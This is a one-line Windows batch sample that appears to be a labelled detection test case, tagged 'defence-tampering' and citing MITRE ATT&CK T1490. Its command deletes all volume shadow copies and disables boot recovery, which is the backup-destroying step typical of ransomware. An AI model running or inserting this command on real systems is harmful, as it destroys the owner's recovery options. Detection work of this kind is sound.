@rem expect: defence-tampering | source: MITRE ATT&CK T1490
vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no
